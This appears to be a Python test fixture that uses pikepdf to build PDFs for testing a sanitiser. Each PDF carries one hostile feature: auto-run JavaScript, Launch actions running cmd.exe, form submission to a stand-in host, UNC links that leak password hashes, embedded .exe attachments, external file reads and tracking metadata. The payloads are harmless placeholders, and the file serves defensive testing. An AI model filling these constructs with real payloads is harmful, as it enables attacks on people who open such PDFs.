"""PDFs for the corpus: each builder adds one thing to a document of a page with words on it."""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from tests.files import corpus

MARK = "Zwaluwnest"  # stands in everything that must not survive
SCRIPT = f"app.alert('{MARK}')"


def with_pages(count: int = 1) -> Pdf:
    """Pages with their number written on them."""
    pdf = Pdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(1, count + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(AA=font))  # a font may be called so
        page.Contents = pdf.make_stream(f"BT /AA 40 Tf 60 700 Td (Page {number}) Tj ET".encode())
    return pdf


def saved(pdf: Pdf, **settings) -> bytes:
    """As bytes, plain enough for markers to be found in them."""
    out = io.BytesIO()
    settings.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.disable)
    settings.setdefault("compress_streams", False)
    pdf.save(out, **settings)
    return out.getvalue()


def script(then: Dictionary | None = None) -> Dictionary:
    """An action that runs JavaScript."""
    action = Dictionary(S=Name.JavaScript, JS=String(SCRIPT))
    if then is not None:
        action.Next = then
    return action


def attached(pdf: Pdf) -> Dictionary:
    """A file inside the file."""
    inside = pdf.make_stream(f"MZ {MARK}".encode(), Type=Name.EmbeddedFile)
    return Dictionary(
        Type=Name.Filespec, F=String(f"{MARK}.exe"), UF=String(f"{MARK}.exe"),
        EF=Dictionary(F=inside, UF=inside),
    )  # fmt: skip


def mark(pdf: Pdf, subtype: str, **entries) -> Dictionary:
    """Lays an annotation on the first page."""
    page = pdf.pages[0]
    laid = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[50, 50, 250, 90])
    for key, value in entries.items():
        laid[f"/{key}"] = value
    laid = pdf.make_indirect(laid)
    page.obj.Annots = Array([*page.obj.get("/Annots", []), laid])
    return laid


def _form(pdf: Pdf, **entries) -> Dictionary:
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    field = mark(
        pdf, "Widget", FT=Name.Tx, T=String("name"), V=String("Pip Zeeman"), F=4,
        DA=String("/Helv 12 Tf 0 g"), **entries,
    )  # fmt: skip
    pdf.Root.AcroForm = Dictionary(
        Fields=[field], DR=Dictionary(Font=Dictionary(Helv=font)), NeedAppearances=True,
        DA=String("/Helv 12 Tf 0 g"),
    )  # fmt: skip
    return field


def script_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script()


def script_by_name(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=[String("run"), script()]))


def scripts_on_events(pdf: Pdf) -> None:
    """On closing, printing, opening a page, entering a field."""
    pdf.Root.AA = Dictionary(WC=script(), DP=script())
    pdf.pages[0].obj.AA = Dictionary(O=script(), C=script())
    _form(pdf, AA=Dictionary(K=script(), F=script(), E=script()))


def script_after_a_link(pdf: Pdf) -> None:
    """A harmless action, and what follows it."""
    go = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=script(script()))
    mark(pdf, "Link", A=go)


def script_in_an_outline(pdf: Pdf) -> None:
    entry = pdf.make_indirect(Dictionary(Title=String("Chapter"), A=script()))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=entry, Last=entry, Count=1))
    entry.Parent = outlines
    pdf.Root.Outlines = outlines


def script_as_a_stream(pdf: Pdf) -> None:
    code = pdf.make_stream(SCRIPT.encode())
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=code)


def script_on_a_structure(pdf: Pdf) -> None:
    """Reached only through the tags, where nobody looks for an annotation."""
    lost = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, A=script()))
    pdf.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=Dictionary(S=Name.P, K=Dictionary(Type=Name.OBJR, Obj=lost))
    )


def launch(pdf: Pdf) -> None:
    mark(pdf, "Link", A=Dictionary(S=Name.Launch, F=String(f"{MARK}.exe"), NewWindow=True))


def launch_of_a_program(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String(f"/c {MARK}"))
    )


def form_that_sends_itself(pdf: Pdf) -> None:
    address = Dictionary(FS=Name.URL, F=String(f"https://{MARK}.example/"))
    _form(pdf, A=Dictionary(S=Name.SubmitForm, F=address))


def form_that_reads_a_file(pdf: Pdf) -> None:
    _form(pdf, A=Dictionary(S=Name.ImportData, F=String(f"{MARK}.fdf")), Ff=1 << 20)


def file_on_a_share(pdf: Pdf) -> None:
    """Opening it sends a password's hash."""
    where = Dictionary(Type=Name.Filespec, F=String(f"\\\\{MARK}.example\\share\\a.pdf"))
    mark(pdf, "Link", A=Dictionary(S=Name.GoToR, F=where, D=Array([0, Name.Fit])))
    mark(pdf, "Link", A=Dictionary(S=Name.GoToE, F=where, D=Array([0, Name.Fit])))


def link_to_a_file(pdf: Pdf) -> None:
    for address in (f"file:///{MARK}", f"javascript:{MARK}", f"\\\\{MARK}\\a", f"data:{MARK},a"):
        mark(pdf, "Link", A=Dictionary(S=Name.URI, URI=String(address)))
    pdf.Root.URI = Dictionary(Base=String(f"file:///{MARK}"))


def attachment(pdf: Pdf) -> None:
    names = Array([String("a"), pdf.make_indirect(attached(pdf))])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))


def attachment_on_a_page(pdf: Pdf) -> None:
    mark(pdf, "FileAttachment", FS=attached(pdf))


def associated_file(pdf: Pdf) -> None:
    pdf.Root.AF = Array([attached(pdf)])
    pdf.pages[0].obj.AF = Array([attached(pdf)])


def portfolio(pdf: Pdf) -> None:
    attachment(pdf)
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)


def xfa(pdf: Pdf) -> None:
    _form(pdf)
    packet = f"<xdp:xdp><script>{SCRIPT}</script></xdp:xdp>".encode()
    pdf.Root.AcroForm.XFA = pdf.make_stream(packet)


def media(pdf: Pdf) -> None:
    sound = pdf.make_stream(MARK.encode(), Type=Name.Sound)
    mark(pdf, "Sound", Sound=sound)
    mark(pdf, "Movie", Movie=Dictionary(F=String(f"{MARK}.avi")))
    mark(pdf, "Screen", A=Dictionary(S=Name.Rendition, JS=String(SCRIPT)))
    mark(pdf, "RichMedia", RichMediaContent=Dictionary(Assets=Dictionary(Names=[sound])))
    mark(pdf, "3D", **{"3DD": pdf.make_stream(MARK.encode(), Type=Name("/3D"))})


def picture_in_another_file(pdf: Pdf) -> None:
    """A stream that stands elsewhere: its data is read from a file on the reader's machine."""
    outside = pdf.make_stream(b"", F=String(f"/etc/{MARK}"), Type=Name.XObject)
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im=outside)


def postscript_for_a_printer(pdf: Pdf) -> None:
    """A drawing that says that it is a program."""
    program = pdf.make_stream(
        b"q Q", Type=Name.XObject, Subtype=Name.Form, Subtype2=Name.PS, BBox=[0, 0, 9, 9],
        PS=pdf.make_stream(f"({MARK}) run".encode()),
    )  # fmt: skip
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm=program)


def colours_from_elsewhere(pdf: Pdf) -> None:
    where = Dictionary(URLs=[Dictionary(FS=Name.URL, F=String(f"https://{MARK}.example/"))])
    pdf.Root.OutputIntents = Array(
        [Dictionary(Type=Name.OutputIntent, S=Name.GTS_PDFX, DestOutputProfileRef=where)]
    )


def metadata(pdf: Pdf) -> None:
    pdf.docinfo["/Author"] = MARK
    pdf.docinfo["/Producer"] = f"Writer {MARK}"
    xmp = f"<x:xmpmeta><creator>{MARK}</creator></x:xmpmeta>".encode()
    pdf.Root.Metadata = pdf.make_stream(xmp, Type=Name.Metadata, Subtype=Name.XML)
    page = pdf.pages[0].obj
    page.Metadata = pdf.make_stream(xmp, Type=Name.Metadata, Subtype=Name.XML)
    page.PieceInfo = Dictionary(App=Dictionary(Private=String(MARK)))
    page.Thumb = pdf.make_stream(MARK.encode(), Type=Name.XObject, Subtype=Name.Image)
    pdf.trailer.ID = Array([String(MARK), String(MARK)])


def photograph_with_a_place(pdf: Pdf, photo: bytes | None = None, how: str = "DCTDecode") -> None:
    image = pdf.make_stream(
        photo or corpus.photograph(MARK), Type=Name.XObject, Subtype=Name.Image, Width=120,
        Height=80, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name("/" + how),
    )  # fmt: skip
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(Im=image)
    page.Contents = pdf.make_stream(b"q 300 0 0 200 100 300 cm /Im Do Q")


# What each is, and how its sender is told.
HOSTILE: dict[Callable[[Pdf], None], set[str]] = {
    script_on_opening: {"scripts_removed"},
    script_by_name: {"scripts_removed"},
    scripts_on_events: {"scripts_removed", "forms_locked"},
    script_after_a_link: {"scripts_removed"},
    script_in_an_outline: {"scripts_removed"},
    script_as_a_stream: {"scripts_removed"},
    script_on_a_structure: {"scripts_removed"},
    launch: {"actions_removed"},
    launch_of_a_program: {"actions_removed"},
    form_that_sends_itself: {"actions_removed", "forms_locked"},
    form_that_reads_a_file: {"actions_removed", "forms_locked"},
    file_on_a_share: {"actions_removed"},
    link_to_a_file: {"actions_removed"},
    attachment: {"attachments_removed"},
    attachment_on_a_page: {"attachments_removed"},
    associated_file: {"attachments_removed"},
    portfolio: {"attachments_removed"},
    xfa: {"scripts_removed", "forms_locked"},
    media: {"media_removed"},
    picture_in_another_file: {"attachments_removed"},
    postscript_for_a_printer: set(),
    colours_from_elsewhere: {"links_removed"},
    metadata: {"metadata_removed"},
    photograph_with_a_place: {"metadata_removed", "location_removed"},
}


def hostile(add: Callable[[Pdf], None]) -> bytes:
    """A page with one of the things above."""
    pdf = with_pages()
    add(pdf)
    return saved(pdf)
